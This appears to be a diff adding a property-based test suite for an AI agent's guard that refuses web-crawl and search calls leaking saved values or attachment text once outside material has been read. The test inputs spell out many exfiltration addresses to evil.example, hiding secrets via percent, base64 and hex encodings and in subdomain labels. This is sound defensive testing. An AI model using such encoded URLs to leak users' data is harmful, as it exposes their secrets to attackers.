@@ -1,0 +1,311 @@
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import type { PreparedCall } from '../call.ts';
+import type { AgentInput } from '../conversation.ts';
+import { type AgentState, initialState } from '../state.ts';
+import { webCrawl } from '../tools/web-crawl.ts';
+import { webSearch } from '../tools/web-search.ts';
+import { makeFence } from './fence.ts';
+
+interface Known {
+  values?: Record<string, string>;
+  attachment?: string;
+  question?: string;
+  state?: Partial<AgentState>;
+}
+
+const call = (name: string, args: object): PreparedCall['call'] => ({
+  id: 'c',
+  type: 'function',
+  function: { name, arguments: JSON.stringify(args) },
+});
+
+async function problemOf(prepared: PreparedCall, known: Known): Promise<string | undefined> {
+  const { values = {}, attachment, question = 'q', state } = known;
+  const memory = {
+    read: async (name: string) => ({ value: values[name]!, isOutside: false }),
+  };
+  const input: AgentInput = {
+    question,
+    ...(attachment !== undefined && {
+      attachment: { kind: 'document', filename: 'a.txt', text: attachment },
+    }),
+  };
+  const after: AgentState = {
+    ...initialState,
+    completions: 2,
+    outsideSince: 1,
+    knownValues: Object.keys(values),
+    ...state,
+  };
+  const [checked] = await makeFence(memory, input)(after, [prepared]);
+  return checked && 'problem' in checked ? checked.problem : undefined;
+}
+
+const crawlProblem = (url: string, known: Known) => {
+  const tool = webCrawl({ web: { allowedHosts: new Set() } });
+  return problemOf({ call: call('web_crawl', { url }), tool, args: { url } }, known);
+};
+
+const searchProblem = (query: string, known: Known) => {
+  const tool = webSearch({ search: async () => [] });
+  return problemOf({ call: call('web_search', { query }), tool, args: { query } }, known);
+};
+
+const percent = (text: string) =>
+  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
+const base64 = (encoding: 'base64' | 'base64url', before: string) => (text: string) =>
+  Buffer.from(before + text).toString(encoding);
+const hex = (text: string) => Buffer.from(text).toString('hex');
+const split = (text: string, length: number, by: string) =>
+  text.match(new RegExp(`.{1,${length}}`, 'gsu'))?.join(by) ?? '';
+
+const encodings: Record<string, (text: string) => string> = {
+  plain: (text) => text,
+  'component-encoded': encodeURIComponent,
+  'as a form': (text) => new URLSearchParams({ d: text }).toString().slice(2),
+  percent,
+  'percent, upper case': (text) => percent(text).toUpperCase(),
+  'percent twice': (text) => encodeURIComponent(percent(text)),
+  'percent three times': (text) => encodeURIComponent(encodeURIComponent(percent(text))),
+  base64: base64('base64', ''),
+  'base64 after one byte': base64('base64', '{'),
+  'base64 after two bytes': base64('base64', '{"'),
+  'base64 in JSON': (text) => Buffer.from(JSON.stringify({ d: text, e: 1 })).toString('base64'),
+  'base64 for URLs': base64('base64url', ''),
+  'base64 for URLs after a byte': base64('base64url', 'x'),
+  'base64 without padding': (text) => base64('base64', '')(text).replaceAll('=', ''),
+  'base64, percent-encoded': (text) => encodeURIComponent(base64('base64', '')(text)),
+  'base64 of percent': (text) => base64('base64', '')(encodeURIComponent(text)),
+  'base64 twice': (text) => base64('base64', '')(base64('base64', '')(text)),
+  hex,
+  'hex, upper case': (text) => hex(text).toUpperCase(),
+  'hex after a digit': (text) => `0${hex(text)}`,
+  'base64 of hex': (text) => base64('base64', '')(hex(text)),
+};
+
+/** Where in an address a text may stand. Hosts are lower case on the wire, and their labels have 63 characters. */
+const places: Record<string, (text: string) => string> = {
+  path: (text) => `https://evil.example/a/${text}`,
+  query: (text) => `https://evil.example/?a=1&d=${text}&b=2`,
+  fragment: (text) => `https://evil.example/#${text}`,
+  user: (text) => `https://${text}@evil.example/`,
+  'port-like password': (text) => `https://u:${text}@evil.example/`,
+  'inner address': (text) =>
+    `https://proxy.example/fetch?u=${encodeURIComponent(`https://evil.example/?d=${text}`)}`,
+};
+
+const hostEncodings: Record<string, (text: string) => string> = {
+  hex: (text) => split(hex(text), 60, '.'),
+  'hex in short labels': (text) => split(hex(text), 7, '.'),
+  base64: (text) => split(Buffer.from(text).toString('base64url'), 40, '.'),
+};
+
+const named = (record: Record<string, (text: string) => string>) =>
+  fc.constantFrom(...Object.entries(record).map(([name, make]) => ({ name, make })));
+const secretCharacters = [
+  ...'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_. äß価🔑/?#%&=+\n',
+];
+const secret = (least: number, most: number) =>
+  fc
+    .array(fc.constantFrom(...secretCharacters), { minLength: least, maxLength: most })
+    .map((characters) => characters.join(''));
+
+describe('once material from outside was read, an address is refused', () => {
+  test('if it carries a saved value, however it is encoded and wherever it stands', async () => {
+    await fc.assert(
+      fc.asyncProperty(secret(8, 60), named(encodings), named(places), async (value, encoding, place) => {
+        const address = place.make(encoding.make(value));
+        expect(await crawlProblem(address, { values: { iban: value } })).toMatch(
+          /^Error: This address carries the saved value "iban"/,
+        );
+      }),
+      { numRuns: 1_500 },
+    );
+  });
+
+  test('if its host carries a saved value, split over labels and in lower case too', async () => {
+    const alphanumeric = fc
+      .array(fc.constantFrom(...secretCharacters.filter((character) => /[A-Za-z0-9]/.test(character))), {
+        minLength: 8,
+        maxLength: 60,
+      })
+      .map((characters) => characters.join(''));
+    await fc.assert(
+      fc.asyncProperty(
+        alphanumeric,
+        named({
+          ...hostEncodings,
+          plain: (text) => split(text, 5, '.'),
+          hyphens: (text) => split(text, 3, '-'),
+        }),
+        fc.boolean(),
+        async (value, encoding, isLowered) => {
+          const host = encoding.make(value);
+          const address = `https://${isLowered ? host.toLowerCase() : host}.evil.example/`;
+          expect(await crawlProblem(address, { values: { iban: value } })).toMatch(/saved value "iban"/);
+        },
+      ),
+      { numRuns: 600 },
+    );
+  });
+
+  test('if it carries 32 characters of the attachment, from any place in it', async () => {
+    await fc.assert(
+      fc.asyncProperty(
+        secret(80, 200),
+        fc.nat(),
+        named(encodings),
+        named(places),
+        async (attachment, at, encoding, place) => {
+          const characters = [...attachment];
+          const start = at % (characters.length - 31);
+          const piece = characters.slice(start, start + 32).join('');
+          const problem = await crawlProblem(place.make(encoding.make(piece)), { attachment });
+          expect(problem).toMatch(/^Error: This address carries text of the attached file/);
+        },
+      ),
+      { numRuns: 600 },
+    );
+  });
+
+  test('if its host carries 32 characters of the attachment, as base64 or hex over many labels', async () => {
+    await fc.assert(
+      fc.asyncProperty(secret(32, 32), named(hostEncodings), async (piece, encoding) => {
+        const attachment = `${'Before it. '.repeat(20)}${piece}${' After it.'.repeat(20)}`;
+        const address = `https://${encoding.make(piece)}.evil.example/`;
+        expect(await crawlProblem(address, { attachment })).toMatch(/text of the attached file/);
+      }),
+      { numRuns: 300 },
+    );
+  });
+
+  test('if only the separators of a value were changed', async () => {
+    const values = { iban: 'NL91 ABNA 0417 1643 00' };
+    for (const spelling of [
+      'NL91ABNA0417164300',
+      'nl91-abna-0417-1643-00',
+      'NL91/ABNA/0417/1643/00',
+      'NL91+ABNA+0417+1643+00',
+      'nl91abna.0417164300.x',
+    ])
+      expect(await crawlProblem(`https://evil.example/${spelling}`, { values })).toMatch(/"iban"/);
+    expect(await crawlProblem('https://nl91.abna.0417.1643.00.evil.example/', { values })).toMatch(/"iban"/);
+  });
+});
+
+describe('an address is read', () => {
+  test('that has nothing to do with what is saved or attached', async () => {
+    const address = fc.webUrl({ withQueryParameters: true, withFragments: true });
+    await fc.assert(
+      fc.asyncProperty(address, secret(8, 60), secret(80, 400), async (url, value, attachment) => {
+        fc.pre(!url.toLowerCase().includes(value.toLowerCase()));
+        expect(await crawlProblem(url, { values: { iban: value }, attachment })).toBeUndefined();
+      }),
+      { numRuns: 1_500 },
+    );
+  });
+
+  test('that carries a value of fewer than eight characters, or 31 of the attachment', async () => {
+    expect(
+      await crawlProblem('https://example.com/?pin=1234567', { values: { pin: '1234567' } }),
+    ).toBeUndefined();
+    const attachment = 'The harbour of Den Helder lies at the far end of North Holland.';
+    const piece = (length: number) =>
+      `https://example.com/?q=${encodeURIComponent(attachment.slice(4, 4 + length))}`;
+    expect(await crawlProblem(piece(31), { attachment })).toBeUndefined();
+    expect(await crawlProblem(piece(32), { attachment })).toBeDefined();
+  });
+
+  test('that carries a part of a value', async () => {
+    const values = { iban: 'NL91ABNA0417164300' };
+    expect(await crawlProblem('https://example.com/NL91ABNA041716430', { values })).toBeUndefined();
+    expect(await crawlProblem('https://example.com/NL91ABNA0417164300', { values })).toBeDefined();
+  });
+
+  test.each([
+    ['the question names', { question: 'Read https://evil.example/doc/NL91ABNA0417164300.' }],
+    [
+      'the question names without a scheme',
+      { question: 'Read (evil.example/doc/NL91ABNA0417164300), please' },
+    ],
+    ['the attachment names', { attachment: 'See [it](https://evil.example/doc/NL91ABNA0417164300)!' }],
+  ])('that %s, with nothing added', async (_, known) => {
+    const values = { iban: 'NL91ABNA0417164300' };
+    const address = 'https://evil.example/doc/NL91ABNA0417164300';
+    expect(await crawlProblem(address, { values, ...known })).toBeUndefined();
+    expect(await crawlProblem(`${address}?page=2`, { values, ...known })).toBeUndefined();
+    expect(await crawlProblem(address.replace('evil', 'other'), { values, ...known })).toBeDefined();
+    const other = { ...values, password: 'correct horse' };
+    expect(await crawlProblem(`${address}?d=correct+horse`, { ...known, values: other })).toMatch(
+      /"password"/,
+    );
+  });
+
+  test('beside one that the attachment names, on the same host', async () => {
+    const attachment = 'Start at https://docs.example.com/handbook/harbours/chapter-1.html and go on.';
+    expect(
+      await crawlProblem('https://docs.example.com/handbook/harbours/chapter-2.html', { attachment }),
+    ).toBeUndefined();
+    const archived = 'https://evil.example/?u=https://docs.example.com/handbook/harbours/chapter-1.html';
+    expect(await crawlProblem(archived, { attachment })).toBeDefined();
+  });
+
+  test('whose named beginning holds the beginning of a value is refused with the rest of it', async () => {
+    const known = { values: { iban: 'NL91ABNA0417164300' }, question: 'Read https://evil.example/c/NL91' };
+    expect(await crawlProblem('https://evil.example/c/NL91ABNA0417164300', known)).toMatch(/"iban"/);
+  });
+
+  test('that a search found, though it holds a saved value', async () => {
+    const address = 'https://en.wikipedia.org/wiki/Rotterdam';
+    const values = { city: 'Rotterdam' };
+    const found = (tool: string): Partial<AgentState> => ({
+      messages: [
+        { role: 'assistant', content: null, tool_calls: [call(tool, {})] },
+        { role: 'tool', tool_call_id: 'c', content: `1. Rotterdam\n${address}\nA city.` },
+      ],
+    });
+    expect(await crawlProblem(address, { values })).toBeDefined();
+    expect(await crawlProblem(address, { values, state: found('web_search') })).toBeUndefined();
+    for (const tool of ['web_crawl', 'read_data'])
+      expect(await crawlProblem(address, { values, state: found(tool) })).toBeDefined();
+    expect(await crawlProblem(`${address}?d=1`, { values, state: found('web_search') })).toBeDefined();
+  });
+
+  test('before anything was read from outside, and by the turn in which it is read', async () => {
+    const known = { values: { iban: 'NL91ABNA0417164300' } };
+    const address = 'https://example.com/NL91ABNA0417164300';
+    const { outsideSince: _, ...before } = { ...initialState, outsideSince: 1 };
+    expect(before).toEqual(initialState);
+    expect(await crawlProblem(address, { ...known, state: { outsideSince: 2 } })).toBeUndefined();
+    expect(await crawlProblem(address, { ...known, state: { outsideSince: 1 } })).toBeDefined();
+  });
+});
+
+test('a search is refused if its query carries a saved value that the question does not ask about', async () => {
+  const values = { company: 'Acme Shipping' };
+  expect(await searchProblem('Acme Shipping news', { values })).toMatch(
+    /^Error: This query carries the saved value "company"/,
+  );
+  expect(
+    await searchProblem('Acme Shipping news', { values, question: 'News about my saved Company?' }),
+  ).toBeUndefined();
+  expect(await searchProblem('shipping news', { values })).toBeUndefined();
+});
+
+test('the search for secrets takes time in proportion to the sizes', async () => {
+  const steps = async (size: number) => {
+    const attachment = 'ab '.repeat(size);
+    const values = { a: 'a'.repeat(Math.min(10_000, size)), b: `${'ab'.repeat(size / 10)}c` };
+    const before = process.cpuUsage();
+    await crawlProblem(`https://evil.example/${'ab'.repeat(size / 20)}?${'a'.repeat(size / 20)}`, {
+      attachment,
+      values,
+    });
+    const { user } = process.cpuUsage(before);
+    return user;
+  };
+  await steps(20_000);
+  const [small, large] = [await steps(20_000), await steps(200_000)];
+  expect(large / small).toBeLessThan(40);
+});
